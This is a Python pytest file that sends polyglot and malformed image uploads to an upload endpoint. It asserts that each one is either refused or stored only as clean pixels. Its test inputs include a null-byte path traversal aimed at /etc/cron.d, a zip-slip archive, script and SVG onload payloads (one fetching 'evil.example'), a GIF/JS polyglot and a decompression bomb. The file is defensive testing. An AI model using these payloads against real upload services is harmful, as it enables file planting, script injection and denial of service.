"""Files that are two things at once, sent through the door: they become pixels or are refused by code, and the store holds nothing else."""

import io
import random
import zipfile
from pathlib import Path

import pytest
from PIL import Image

from ledger_api.desk.vault import DiskVault
from tests.api.desk.world import DeskWorld, photo
from tests.unit.desk.test_receiving import malformed, png_of, saved

WHOLE = photo("logo")
PATHS = "../../../../etc/cron.d/evil\x00.jpg"
PAGE = b"<html><script>fetch('//evil.example')</script></html>"


def archive() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        file.writestr("../../evil.sh", b"#!/bin/sh")
    return made.getvalue()


def with_paths() -> bytes:
    exif = Image.Exif()
    exif[271], exif[272], exif[269], exif[306] = PATHS, PATHS, PATHS, PATHS
    return saved(Image.open(io.BytesIO(WHOLE)), "JPEG", exif=exif, comment=PATHS.encode())


POLYGLOTS = {
    "a photo with an archive in its tail": WHOLE + archive(),
    "an archive with a photo in its tail": archive() + WHOLE,
    "a page before a photo": PAGE + WHOLE,
    "a page after a photo": WHOLE + PAGE,
    "a page in a comment": WHOLE[:2] + b"\xff\xfe" + (len(PAGE) + 2).to_bytes(2, "big") + PAGE + WHOLE[2:],
    "a drawing that can run": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>' + WHOLE,
    "a photo of paths": with_paths(),
    "a bomb": png_of(40_000, 40_000),
    "a script": b"GIF89a/*" + WHOLE + b"*/=alert(1)",
    "a document": b"%PDF-1.7\n" + WHOLE,
}


def test_files_that_are_two_things_leave_pixels_or_nothing(world: DeskWorld, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    case = world.new()["id"]
    vault = world.worker.machines.vault
    assert isinstance(vault, DiskVault)
    chance = random.Random(7)
    bodies = [*POLYGLOTS.values(), *chance.sample(list(malformed(200, seed=8)), 20)]

    answers = [(body, world.send(case, name, body)) for name, body in zip(["front", "back", "logo"] * 10, bodies, strict=True)]

    taken = {body for body, answer in answers if answer.status_code == 201}
    refused = [answer.json()["code"] for _, answer in answers if answer.status_code != 201]
    kept = [path for path in vault._folder.rglob("*") if path.is_file()]
    assert taken and refused and all(code.startswith("photo-") for code in refused)
    assert len(kept) <= 2 * len(taken) and all(len(path.name) == 64 for path in kept)
    shown = [shot["photo"] for shot in world.look(case)["shots"] if shot["photo"]]
    for pixels in (world.doors.get("PLATFORM", f"/v1/cases/{case}/photos/{one}").content for one in shown):
        assert b"evil" not in pixels and b"script" not in pixels and b"PK\x03\x04" not in pixels
    assert list(elsewhere.iterdir()) == [] and not list(tmp_path.rglob("evil*"))
